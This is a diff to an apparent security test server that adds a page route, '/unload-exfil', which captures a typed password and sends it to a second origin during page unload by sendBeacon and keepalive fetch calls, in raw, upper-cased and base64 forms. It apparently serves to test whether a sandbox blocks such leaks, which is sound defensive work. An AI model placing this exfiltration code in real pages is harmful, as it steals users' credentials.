@@ -168,6 +168,32 @@ export async function startSecretSites(): Promise<SecretSites> {
   try{const w=new WebSocket(E.replace("http","ws")+"/ws");w.onopen=()=>w.send("hello");w.onerror=()=>{}}catch(_){}
   document.getElementById("done").textContent="tried";`,
       ),
+      // Holds the typed value and sends it to the other origin only while the page unloads (a goto
+      // step or a link click): beacons and keepalive fetches, raw, upper-cased and base64, from every
+      // unload-time event a page has.
+      "/unload-exfil": (_req, res) =>
+        html(
+          res,
+          page(
+            "Unload",
+            `<input id="password" type="password"><a id="away" href="/home">away</a><p id="done">ready</p><script>
+const to=new URLSearchParams(location.search).get("to");
+const E=to===null?${E}:"http://"+to+":"+new URL(${E}).port;
+let v="";
+document.getElementById("password").addEventListener("input",e=>{v=e.target.value;document.getElementById("done").textContent="held";});
+const send=(why)=>{
+  navigator.sendBeacon(E+"/probe-"+why,"x");fetch(E+"/probeka-"+why,{mode:"no-cors",keepalive:true}).catch(()=>{});
+  if(v==="")return;
+  navigator.sendBeacon(E+"/beacon-"+why+"?p="+encodeURIComponent(v),"x");
+  navigator.sendBeacon(E+"/beacon-body-"+why,new Blob([v.toUpperCase()]));
+  fetch(E+"/keepalive-"+why,{method:"POST",mode:"no-cors",keepalive:true,body:"p="+encodeURIComponent(v)}).catch(()=>{});
+  fetch(E+"/keepalive-get-"+why+"?b="+btoa(v),{mode:"no-cors",keepalive:true}).catch(()=>{});
+};
+for(const why of ["pagehide","unload","beforeunload","visibilitychange"])addEventListener(why,()=>send(why));
+document.addEventListener("visibilitychange",()=>send("doc-visibilitychange"));
+</script>`,
+          ),
+        ),
       "/echo": (_req, res) =>
         html(
           res,
